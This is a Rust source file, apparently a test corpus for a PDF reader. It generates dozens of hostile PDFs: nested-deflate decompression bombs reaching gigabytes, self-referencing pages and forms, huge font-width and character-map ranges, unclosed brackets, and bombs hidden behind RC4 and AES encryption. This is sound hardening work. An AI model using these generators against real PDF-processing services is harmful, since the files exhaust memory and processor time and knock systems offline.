//! PDF files that attack: small ones that decode to gigabytes, whose numbers are loops, whose parts lead to each other,
//! or whose brackets never end.

use super::super::packing;
use super::super::pdf::File;
use super::super::wild::Wild;
use super::locks::Lock;
use super::{Attack, MEGABYTE, attacks};
use std::fmt::Write as _;

attacks! {
    "pdf" bomb_in_content
    "pdf" bomb_in_object_stream
    "pdf" bomb_in_an_object_stream_that_says_it_is_none
    "pdf" object_stream_of_empty_objects
    "pdf" bomb_in_font_map
    "pdf" bomb_in_font_program
    "pdf" bomb_of_run_lengths
    "pdf" bomb_of_letters_in_base85
    "pdf" map_shared_by_fonts
    "pdf" first_character_far_away
    "pdf" widths_of_all_numbers
    "pdf" vertical_widths_of_all_numbers
    "pdf" widths_again_and_again
    "pdf" map_of_everything
    "pdf" map_of_other_maps
    "pdf" map_of_one_character_again_and_again
    "pdf" row_of_one_sample_for_a_predictor
    "pdf" row_of_two_billion_samples_for_a_predictor
    "pdf" pages_that_lead_to_each_other
    "pdf" million_pages
    "pdf" forms_that_double
    "pdf" table_of_objects_that_do_not_exist
    "pdf" older_table_in_two_layers
    "pdf" older_table_of_many_objects
    "pdf" form_that_shows_itself
    "pdf" form_that_shows_itself_by_what_its_page_names
    "pdf" operands_without_an_operator
    "pdf" dictionary_in_content_of_many_names
    "pdf" inline_images_in_each_other
    "pdf" table_of_one_row_again_and_again
    "pdf" strings_that_never_end
    "pdf" arrays_that_never_end
    "pdf" dictionaries_that_never_end
    "pdf" streams_that_never_end
    "pdf" content_decrypted_again_and_again
    "pdf" bomb_in_content_behind_rc4
    "pdf" bomb_in_font_map_behind_rc4
    "pdf" bomb_in_object_stream_behind_rc4
    "pdf" bomb_in_content_behind_aes_128
    "pdf" bomb_in_font_map_behind_aes_128
    "pdf" bomb_in_object_stream_behind_aes_128
    "pdf" bomb_in_content_behind_aes_256
    "pdf" bomb_in_font_map_behind_aes_256
    "pdf" bomb_in_object_stream_behind_aes_256
}

/// A page with one font of these entries. Its content is the next object, and those that follow are numbered from 6.
/// Object 6 is its form, and says what its parts are, for the files that have such.
fn page(font: &str) -> File {
    let mut file = File::default();
    file.add("<</Type/Catalog/Pages 2 0 R/StructTreeRoot 6 0 R>>");
    file.add("<</Type/Pages/Kids[3 0 R]/Count 1>>");
    file.add(
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/StructParents 0/Contents 5 0 R\
         /Resources<</Font<</F1 4 0 R>>/XObject<</X 6 0 R>>>>>>",
    );
    file.add(format!("<</Type/Font{font}>>"));
    file
}

const PLAIN: &str = "/Subtype/Type1/BaseFont/Helvetica";

const WORDS: &str = "BT /F1 12 Tf 72 700 Td (The house decides that this is read,) Tj ET";

fn words(file: &mut File) {
    packed(file, "", WORDS);
}

fn packed(file: &mut File, entries: &str, content: &str) {
    file.stream(&format!("{entries}/Filter/FlateDecode"), &packing::zlib(content.as_bytes()));
}

/// A page in whose content something stands before the words.
fn before_words(content: &str) -> Vec<u8> {
    let mut file = page(PLAIN);
    packed(&mut file, "", &format!("{content} {WORDS}"));
    file.finish()
}

/// A page whose font has this map of characters.
fn mapped(map: &str) -> Vec<u8> {
    let mut file = page(&format!("{PLAIN}/ToUnicode 6 0 R"));
    words(&mut file);
    packed(&mut file, "", map);
    file.finish()
}

/// A page and a stream that no object refers to.
fn beside(entries: &str, data: &[u8]) -> Vec<u8> {
    let mut file = page(PLAIN);
    words(&mut file);
    file.stream(entries, data);
    file.finish()
}

/// Two layers of deflate, of a few kilobytes, that unpack to so many megabytes of a byte.
fn two_layers(byte: u8, megabytes: usize) -> Vec<u8> {
    packing::zlib(&packing::zlib_repeated(&vec![byte; MEGABYTE], megabytes))
}

const TWO_LAYERS: &str = "/Filter[/FlateDecode/FlateDecode]";

/// Three layers of deflate, of some hundred bytes, that unpack to four gigabytes.
fn bomb_in_content() -> Vec<u8> {
    let mut file = page(PLAIN);
    file.stream("/Filter[/FlateDecode/FlateDecode/FlateDecode]", &packing::zlib(&two_layers(b' ', 4096)));
    file.finish()
}

/// A stream that holds the catalogue, followed by four gigabytes of blanks.
fn bomb_in_object_stream() -> Vec<u8> {
    let mut file = page(PLAIN);
    words(&mut file);
    let entries = |count, first| format!("/Type/ObjStm/N {count}/First {first}{TWO_LAYERS}");
    file.finish_packed(&[1, 2], entries, with_blanks, &mut Wild::new(&[]))
}

/// A bomb that begins with some objects. They are once more in each of its blocks.
fn with_blanks(objects: Vec<u8>) -> Vec<u8> {
    let mut block = objects;
    block.resize(MEGABYTE, b' ');
    packing::zlib(&packing::zlib_repeated(&block, 4096))
}

/// The same, but only the table of objects says that it holds any.
fn bomb_in_an_object_stream_that_says_it_is_none() -> Vec<u8> {
    let mut file = page(PLAIN);
    words(&mut file);
    let entries = |_, _| format!("/Subtype/Image{TWO_LAYERS}");
    file.finish_packed(&[1, 2], entries, with_blanks, &mut Wild::new(&[]))
}

fn object_stream_of_empty_objects() -> Vec<u8> {
    let mut file = page(PLAIN);
    words(&mut file);
    let entries = |_, _| "/Type/ObjStm/N 999999999/First 9/Filter/FlateDecode".to_owned();
    let pack = |_| packing::zlib_repeated(&b"9 0 ".repeat(MEGABYTE / 4), 8);
    file.finish_packed(&[1, 2], entries, pack, &mut Wild::new(&[]))
}

fn bomb_in_font_map() -> Vec<u8> {
    let mut file = page(&format!("{PLAIN}/ToUnicode 6 0 R"));
    words(&mut file);
    file.stream(TWO_LAYERS, &two_layers(b' ', 4096));
    file.finish()
}

fn bomb_in_font_program() -> Vec<u8> {
    let mut file = page(
        "/Subtype/TrueType/BaseFont/AAAAAA+X/FontDescriptor<</Type/FontDescriptor/Flags 4/FontFile2 6 0 R>>",
    );
    words(&mut file);
    file.stream(TWO_LAYERS, &two_layers(0, 4096));
    file.finish()
}

/// Run lengths make 64 bytes of one, after deflate made a thousand.
fn bomb_of_run_lengths() -> Vec<u8> {
    let mut file = page(PLAIN);
    let runs = [129, b' '].repeat(MEGABYTE / 2);
    file.stream("/Filter[/FlateDecode/RunLengthDecode]", &packing::zlib_repeated(&runs, 64));
    file.finish()
}

/// `z` stands for four bytes of zero.
fn bomb_of_letters_in_base85() -> Vec<u8> {
    let mut file = page(PLAIN);
    file.stream("/Filter[/FlateDecode/ASCII85Decode]", &packing::zlib_repeated(&vec![b'z'; MEGABYTE], 256));
    file.finish()
}

/// Three hundred fonts, each with the same map of sixteen megabytes.
fn map_shared_by_fonts() -> Vec<u8> {
    const FONTS: usize = 300;
    let mut file = File::default();
    file.add("<</Type/Catalog/Pages 2 0 R>>");
    file.add("<</Type/Pages/Kids[3 0 R]/Count 1>>");
    let fonts = (0..FONTS).fold(String::new(), |all, at| format!("{all}/F{at} {} 0 R", at + 6));
    file.add(format!(
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<<{fonts}>>>>/Contents 4 0 R>>"
    ));
    let words = (0..FONTS).fold(String::new(), |mut all, at| {
        writeln!(all, "BT /F{at} 12 Tf 72 700 Td (The house) Tj ET").unwrap();
        all
    });
    file.stream("/Filter/FlateDecode", &packing::zlib(words.as_bytes()));
    file.stream("/Filter/FlateDecode", &packing::zlib_repeated(&vec![b' '; MEGABYTE], 16));
    for _ in 0..FONTS {
        file.add(format!("<</Type/Font{PLAIN}/ToUnicode 5 0 R>>"));
    }
    file.finish()
}

fn first_character_far_away() -> Vec<u8> {
    let mut file = page(
        "/Subtype/TrueType/BaseFont/AAAAAA+X/FontDescriptor<</Type/FontDescriptor/Flags 4>>\
         /FirstChar 1000000000000/LastChar 1000000000001/Widths[500 500]",
    );
    words(&mut file);
    file.finish()
}

fn collection(widths: &str) -> Vec<u8> {
    let mut file = page(&format!(
        "/Subtype/Type0/BaseFont/X/Encoding/Identity-H\
         /DescendantFonts[<</Type/Font/Subtype/CIDFontType2/{widths}>>]"
    ));
    words(&mut file);
    file.finish()
}

fn widths_of_all_numbers() -> Vec<u8> {
    collection("W[0 4294967295 500 0 2147483647 100]")
}

fn vertical_widths_of_all_numbers() -> Vec<u8> {
    collection("W2[0 4294967295 500 0 100]")
}

fn widths_again_and_again() -> Vec<u8> {
    collection(&format!("W[{}]", "0 65535 5 ".repeat(25_000)))
}

fn map_of_everything() -> Vec<u8> {
    mapped(
        "1 begincidrange <0000> <FFFFFFFF> 0 endcidrange 1 beginbfrange <0000> <FFFFFFFF> <0000> endbfrange",
    )
}

fn map_of_other_maps() -> Vec<u8> {
    mapped(&"/UniJIS-UTF16-H usecmap ".repeat(50_000))
}

fn map_of_one_character_again_and_again() -> Vec<u8> {
    mapped(&format!("1 beginbfchar {} endbfchar", "<0000> <0000> ".repeat(500_000)))
}

fn predicted(columns: &str) -> Vec<u8> {
    let mut file = page(PLAIN);
    let parameters = format!("/DecodeParms<</Predictor 2/Columns {columns}/Colors 1/BitsPerComponent 1>>");
    let samples = packing::zlib_repeated(&vec![0xAA; MEGABYTE], 16);
    file.stream(&format!("/Filter/FlateDecode{parameters}"), &samples);
    file.finish()
}

/// Each byte is a row of its own.
fn row_of_one_sample_for_a_predictor() -> Vec<u8> {
    predicted("1")
}

fn row_of_two_billion_samples_for_a_predictor() -> Vec<u8> {
    predicted("2147483647")
}

fn pages_that_lead_to_each_other() -> Vec<u8> {
    let mut file = File::default();
    file.add("<</Type/Catalog/Pages 2 0 R>>");
    let kids = "2 0 R 3 0 R ".repeat(500);
    for _ in 0..2 {
        file.add(format!("<</Type/Pages/Kids[{kids}]/Count 4294967295/Parent 3 0 R>>"));
    }
    file.finish()
}

/// A list of a million pages that stand in it, of some kilobytes.
fn million_pages() -> Vec<u8> {
    let mut file = File::default();
    file.add("<</Type/Catalog/Pages 2 0 R>>");
    file.add(format!("<</Kids [{}]>>", "<<>>".repeat(1_000_000)));
    let entries = |count, first| format!("/Type/ObjStm/N {count}/First {first}/Filter/FlateDecode");
    file.finish_packed(&[2], entries, |data| packing::zlib(&data), &mut Wild::new(&[]))
}

/// Forty forms, each of which shows the next twice.
fn forms_that_double() -> Vec<u8> {
    const FORMS: usize = 40;
    let mut file = File::default();
    file.add("<</Type/Catalog/Pages 2 0 R>>");
    file.add("<</Type/Pages/Kids[3 0 R]/Count 1>>");
    file.add(
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</X 5 0 R>>>>/Contents 4 0 R>>",
    );
    file.stream("", b"/X Do");
    for at in 0..FORMS {
        let next = 6 + at;
        let entries = format!(
            "/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X {next} 0 R>>/Font<</F1<</Type/Font{PLAIN}>>>>>>"
        );
        file.stream(&entries, b"BT /F1 9 Tf 50 700 Td (The house) Tj ET /X Do /X Do");
    }
    file.finish()
}

/// A table of two hundred million objects, of some kilobytes.
fn table_of_objects_that_do_not_exist() -> Vec<u8> {
    let mut file = page(PLAIN);
    words(&mut file);
    let number = file.next();
    let row = [1, 0, 0, 0, 9];
    let table = packing::zlib(&packing::zlib_repeated(&row.repeat(1 << 18), 800));
    file.stream(&format!("/Type/XRef/Size 209715200/W[1 2 2]/Root 1 0 R{TWO_LAYERS}"), &table);
    let mut bytes = file.finish();
    let needle = format!("{number} 0 obj");
    let start = bytes.windows(needle.len()).rposition(|window| window == needle.as_bytes()).unwrap();
    bytes.extend(format!("startxref\n{start}\n%%EOF\n").into_bytes());
    bytes
}

/// A stream that could be the table of objects of an older state of the file.
fn older_table_in_two_layers() -> Vec<u8> {
    beside(&format!("/Type/XRef/W[1 2 1]/Size 9{TWO_LAYERS}"), &two_layers(1, 4096))
}

/// Each of its bytes lists an object.
fn older_table_of_many_objects() -> Vec<u8> {
    beside("/Type/XRef/W[0 1 0]/Size 9/Filter/FlateDecode", &packing::zlib_repeated(&vec![1; MEGABYTE], 20))
}

fn form_that_shows_itself() -> Vec<u8> {
    recursive("/Resources<</XObject<</X 6 0 R>>/Font<</F1 4 0 R>>>>")
}

/// It has no names of its own, which makes it cheaper to read, so that it is read more often.
fn form_that_shows_itself_by_what_its_page_names() -> Vec<u8> {
    recursive("")
}

fn recursive(names: &str) -> Vec<u8> {
    let mut file = page(PLAIN);
    packed(&mut file, "", "/X Do /X Do");
    let entries = format!("/Type/XObject/Subtype/Form/BBox[0 0 1 1]{names}");
    packed(&mut file, &entries, &format!("{}{WORDS}", "/X Do ".repeat(20)));
    file.finish()
}

fn operands_without_an_operator() -> Vec<u8> {
    before_words(&"1 ".repeat(1_000_000))
}

fn dictionary_in_content_of_many_names() -> Vec<u8> {
    before_words(&format!("/P <<{}>> BDC", "/a 1".repeat(600_000)))
}

fn inline_images_in_each_other() -> Vec<u8> {
    before_words(&"BI /W 1 ID x EI EI ".repeat(200_000))
}

/// A table of 5,000 rows that are one row, of 5,000 cells that are one cell and span a billion.
fn table_of_one_row_again_and_again() -> Vec<u8> {
    let mut file = page(PLAIN);
    packed(&mut file, "", &format!("/P <</MCID 0>> BDC {WORDS} EMC"));
    file.add("<</ParentTree 7 0 R>>");
    file.add("<</Nums [0 8 0 R]>>");
    file.add("[11 0 R]");
    file.add(format!("<</S/Table/K[{}]>>", "10 0 R ".repeat(5_000)));
    file.add(format!("<</S/TR/P 9 0 R/K[{}]>>", "11 0 R ".repeat(5_000)));
    file.add("<</S/TD/P 10 0 R/A<</ColSpan 1000000000/RowSpan 1000000000>>>>");
    file.finish()
}

/// A page and an object that begins with so many times some brackets, none of which is closed.
fn never_closed(brackets: &str, times: usize) -> Vec<u8> {
    let mut file = page(PLAIN);
    words(&mut file);
    file.add(brackets.repeat(times));
    file.finish()
}

fn strings_that_never_end() -> Vec<u8> {
    never_closed("<<(", 90_000)
}

fn arrays_that_never_end() -> Vec<u8> {
    never_closed("[", 250_000)
}

fn dictionaries_that_never_end() -> Vec<u8> {
    never_closed("<</A ", 50_000)
}

fn streams_that_never_end() -> Vec<u8> {
    [b"%PDF-1.7\n".to_vec(), b"1 0 obj <<>> stream\n".repeat(12_000)].concat()
}

/// An encrypted page whose font has a map, each of them decoding to gigabytes.
fn locked_bombs(lock: Lock, bomb_in_words: bool) -> Vec<u8> {
    let mut file = page(&format!("{PLAIN}/ToUnicode 6 0 R"));
    file.trailer = lock.trailer();
    let bomb = two_layers(b' ', 4096);
    let content = if bomb_in_words { bomb.clone() } else { packing::zlib(&packing::zlib(WORDS.as_bytes())) };
    for data in [content, bomb] {
        let data = lock.locked(file.next(), &data);
        file.stream(TWO_LAYERS, &data);
    }
    file.finish()
}

/// A page that shows one encrypted stream fifteen thousand times. It decodes to nothing, so that only decrypting it takes
/// long.
fn content_decrypted_again_and_again() -> Vec<u8> {
    let lock = Lock::Aes128;
    let mut file = page(PLAIN);
    file.trailer = lock.trailer();
    file.add(format!("[{}]", "6 0 R ".repeat(15_000)));
    let data = lock.locked(file.next(), &vec![b' '; MEGABYTE / 8]);
    file.stream("/Filter/FlateDecode", &data);
    file.finish()
}

/// An encrypted stream that holds the catalogue, followed by gigabytes of blanks.
fn locked_objects(lock: Lock) -> Vec<u8> {
    let mut file = page(PLAIN);
    file.trailer = lock.trailer();
    let data = lock.locked(file.next(), &packing::zlib(WORDS.as_bytes()));
    file.stream("/Filter/FlateDecode", &data);
    let entries = |count, first| format!("/Type/ObjStm/N {count}/First {first}{TWO_LAYERS}");
    let holder = file.next();
    file.finish_packed(
        &[1, 2],
        entries,
        |objects| lock.locked(holder, &with_blanks(objects)),
        &mut Wild::new(&[]),
    )
}

fn bomb_in_content_behind_rc4() -> Vec<u8> {
    locked_bombs(Lock::Rc4, true)
}

fn bomb_in_font_map_behind_rc4() -> Vec<u8> {
    locked_bombs(Lock::Rc4, false)
}

fn bomb_in_object_stream_behind_rc4() -> Vec<u8> {
    locked_objects(Lock::Rc4)
}

fn bomb_in_content_behind_aes_128() -> Vec<u8> {
    locked_bombs(Lock::Aes128, true)
}

fn bomb_in_font_map_behind_aes_128() -> Vec<u8> {
    locked_bombs(Lock::Aes128, false)
}

fn bomb_in_object_stream_behind_aes_128() -> Vec<u8> {
    locked_objects(Lock::Aes128)
}

fn bomb_in_content_behind_aes_256() -> Vec<u8> {
    locked_bombs(Lock::Aes256, true)
}

fn bomb_in_font_map_behind_aes_256() -> Vec<u8> {
    locked_bombs(Lock::Aes256, false)
}

fn bomb_in_object_stream_behind_aes_256() -> Vec<u8> {
    locked_objects(Lock::Aes256)
}
